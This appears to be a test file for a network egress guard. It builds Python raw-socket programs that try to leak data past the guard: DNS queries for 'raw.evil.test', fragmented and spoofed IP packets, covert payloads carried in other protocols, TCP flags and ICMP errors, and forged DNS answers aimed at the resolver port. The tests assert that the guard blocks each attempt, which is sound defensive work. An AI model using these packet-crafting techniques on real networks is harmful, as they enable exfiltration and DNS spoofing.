/** B08 and B18: packets that the job writes itself, where policy leaves it the right to: one with ICMP does. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { RESOLVER } from "../../support/internet/addresses.ts";
import { ALLOWED, createAttackScene, findObstacle, toPython } from "./support/attack-scene.ts";
import { type GuardedPod, toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

/** The first machine's, see toAttachment. */
const OWN = "10.244.1.2";
const SLOW = "slow.test";
const SECRET = "raw.evil.test";

/** Each program ends with how many packets the kernel did not take. */
function toRaw(program: string): string {
  return toPython(`
import socket, struct, sys, time
OWN, ALLOWED, RESOLVER = "${OWN}", "${ALLOWED.ipv4}", "${RESOLVER.ipv4}"
def checksum(data):
    data += b"\\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def ip(source, to, protocol, payload, ident=1, fragment=0):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, fragment, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
def udp(source, to, data):
    return struct.pack("!HHHH", source, to, 8 + len(data), 0) + data
def icmp(kind, code, inner):
    body = struct.pack("!I", 0) + inner
    return struct.pack("!BBH", kind, code, checksum(struct.pack("!BBH", kind, code, 0) + body)) + body
def question(name, ident=7, flags=0x0100, count=0):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    return struct.pack("!HHHHHH", ident, flags, 1, count, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
refused = 0
def send(packet, to):
    global refused
    try:
        raw.sendto(packet, (to, 0))
    except PermissionError:
        refused += 1
${program}
sys.exit(min(refused, 255))`);
}

const FORGED_IDS = 400;
const PROTOCOLS = [0, 2, 4, 41, 47, 50, 51, 89, 103, 112, 115, 132, 136, 253, 255];

const ATTACKS = {
  "to another resolver": toRaw(
    `send(ip(OWN, "1.1.1.1", 17, udp(5353, 53, question("${SECRET}"))), "1.1.1.1")`,
  ),
  "to the resolver": toRaw(
    `send(ip(OWN, RESOLVER, 17, udp(5354, 53, question("${SECRET}"))), RESOLVER)`,
  ),
  "to the resolver in fragments": toRaw(`
whole = udp(5355, 53, question("${SECRET}"))
send(ip(OWN, RESOLVER, 17, whole[:16], 7, 0x2000), RESOLVER)
send(ip(OWN, RESOLVER, 17, whole[16:], 7, 2), RESOLVER)
# A fragment without a beginning.
send(ip(OWN, "203.0.113.9", 17, b"x" * 64, 8, 100), "203.0.113.9")`),
  "in other protocols": toRaw(`
for protocol in ${JSON.stringify(PROTOCOLS)}:
    send(ip(OWN, "203.0.113.10", protocol, b"leak" * 4), "203.0.113.10")`),
  "as answers over TCP": toRaw(`
for flags in (0x04, 0x10, 0x11, 0x12, 0x14, 0x00, 0x29):
    send(ip(OWN, "203.0.113.11", 6, struct.pack("!HHIIBBHHH", 443, 5555, 1, 1, 0x50, flags, 1000, 0, 0) + b"leak"), "203.0.113.11")`),
  "as errors about a flow that is allowed": toRaw(`
flow = socket.create_connection((ALLOWED, 443))
port = flow.getsockname()[1]
for inner in (ip(OWN, ALLOWED, 6, struct.pack("!HHI", port, 443, 1) + b"leak"), ip(ALLOWED, OWN, 6, struct.pack("!HHI", 443, port, 1) + b"leak")):
    for kind, code in ((3, 3), (11, 0)):
        send(ip(OWN, "203.0.113.12", 1, icmp(kind, code, inner)), "203.0.113.12")`),
  "in somebody else's name": toRaw(`
send(ip(ALLOWED, "203.0.113.13", 17, udp(443, 443, b"leak")), "203.0.113.13")
send(ip("203.0.113.14", ALLOWED, 17, udp(443, 443, b"leak")), ALLOWED)`),
  // As the resolver's, to whatever port the guard asks from, while it waits for the true one.
  "forged answers from the side": toRaw(`
import subprocess
asking = subprocess.Popen(["dig", "+short", "+tries=1", "+time=4", "${SLOW}"])
ports = set()
until = time.monotonic() + 2
while not ports and time.monotonic() < until:
    for line in open("/proc/net/udp").read().splitlines()[1:]:
        local, remote = line.split()[1:3]
        if remote == "0A00600A:0035":
            ports.add(int(local.split(":")[1], 16))
answer = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton("203.0.113.15")
for port in list(ports)[:1]:
    for ident in range(${FORGED_IDS}):
        message = question("${SLOW}", ident * 163, 0x8180, 1) + answer
        send(ip(RESOLVER, OWN, 17, udp(53, port, message)), OWN)
asking.wait()`),
} as const;

const obstacle = findObstacle();
describe.skipIf(obstacle !== "")(`packets that the job writes itself${obstacle}`, () => {
  const stack = new AsyncDisposableStack();
  let guardedPod: GuardedPod;
  let volley: Volley;
  beforeAll(async () => {
    const { internet, pod } = stack.use(await createAttackScene());
    guardedPod = pod;
    await internet.dns.add({ name: SLOW, type: "A", data: "198.51.100.50" });
    await internet.dns.behave({ delayMs: 400 });
    const policy = toPolicy({
      allow: [ALLOWED.name, `${ALLOWED.ipv4}:443`, SLOW, `${ALLOWED.ipv4}/icmp`],
    });
    volley = await fireAll(pod, ATTACKS, { policy });
  });
  afterAll(() => stack.disposeAsync());

  test.each(["to another resolver", "to the resolver", "to the resolver in fragments"])(
    "a question %s ends at the gate",
    (attack) => {
      // The kernel takes them, and leads them there.
      expect(volley.shot(attack).status).toBe(0);
      const asked = volley.run.report.dnsQueries.find(({ name }) => name === SECRET);
      expect(asked).toMatchObject({ verdict: "blocked", count: 3 });
    },
  );

  test.each([
    ["in other protocols", PROTOCOLS.length],
    ["as answers over TCP", 7],
    ["as errors about a flow that is allowed", 4],
    ["in somebody else's name", 2],
    ["forged answers from the side", 255],
  ] as const)("data %s is refused", (attack, refused) => {
    expect(volley.shot(attack).status).toBe(refused);
  });

  test("an answer that was forged all the while is the true one", () => {
    expect(volley.shot("forged answers from the side").stdout).toBe("198.51.100.50\n");
  });

  test("nothing of it has left the pod, and the report counts it", () => {
    const { run } = volley;

    expect(run.status).toBe(0);
    expect(run.leakedQuestions).toEqual([]);
    expect(run.questions.map(({ name }) => name)).not.toContain(SECRET);
    expect(
      run.escaped.every(({ destination: { ip, port } }) => ip === ALLOWED.ipv4 && port === 443),
    ).toBe(true);
    const refused = new Set(
      run.report.connections
        .filter(({ verdict }) => verdict === "blocked")
        .map(({ destination }) => destination.ip),
    );
    for (const ip of ["203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.13"]) {
      expect(refused).toContain(ip);
    }
    expect(run.report.enforcement?.packetsRefused).toBeGreaterThan(FORGED_IDS + PROTOCOLS.length);
  });

  test("without such an entry there is no raw socket at all", async () => {
    const second = await fireAll(
      guardedPod,
      { raw: toRaw("") },
      { policy: toPolicy({ allow: [ALLOWED.name] }) },
    );

    expect(second.shot("raw").status).toBe(1);
    expect(second.shot("raw").stderr).toContain("PermissionError");
  });
});
